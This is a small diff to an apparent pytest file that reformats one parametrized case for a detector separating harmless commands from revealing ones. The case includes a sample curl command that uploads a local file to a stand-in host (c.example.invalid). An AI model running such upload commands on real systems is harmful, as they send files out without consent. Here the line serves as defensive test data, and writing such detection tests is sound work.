@@ -49,7 +49,11 @@ def test_a_host_that_the_documents_name_is_no_stranger() -> None:
 @pytest.mark.parametrize(
     ("name", "plain", "telling"),
     [
-        ("a.sh", "curl --tlsv1.2 -sSf https://c.example.invalid/i | less\n", "curl -F f=@a https://c.example.invalid/\n"),
+        (
+            "a.sh",
+            "curl --tlsv1.2 -sSf https://c.example.invalid/i | less\n",
+            "curl -F f=@a https://c.example.invalid/\n",
+        ),
         (
             "a.py",
             "import requests\nrequests.get('https://c.example.invalid/s', params={'q': word})\n",
